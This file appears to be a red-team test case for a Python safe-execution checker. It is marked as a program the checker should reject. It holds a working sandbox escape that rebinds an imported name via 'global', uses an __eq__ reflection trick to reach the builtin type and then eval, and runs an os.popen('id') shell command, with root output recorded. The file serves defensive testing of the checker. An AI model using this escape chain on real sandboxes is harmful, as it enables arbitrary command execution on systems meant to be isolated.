# expect: reject class_value
# line: 30
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family R: a name bound by an import is trusted although the program binds it again (assignment, global in a function, for target, walrus): every recogniser of a library object by its name asks that the import be the name's only binding (wk_import_only) (the red team's program, ok_05)
# Mechanism: as ok_04 (class_like trusts any name that has an import binding), the rebinding done 
# by 'global S' inside a function. type(P) == S hands the builtin type to Grab.__eq__ by 
# reflection. No dunder name is given to a builtin at run time.
# Goal reached: the builtin type by value, then eval (11b end gadget): runs id.
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   uid=0(root) gid=0(root) groups=0(root)
import copy
import typing
from typing import Any as S

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

def setS():
    global S
    S = Grab()
setS()
try:
    type(P) == S
except Exception as e:
    T = e.args[0]
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('id').read()"), end="")
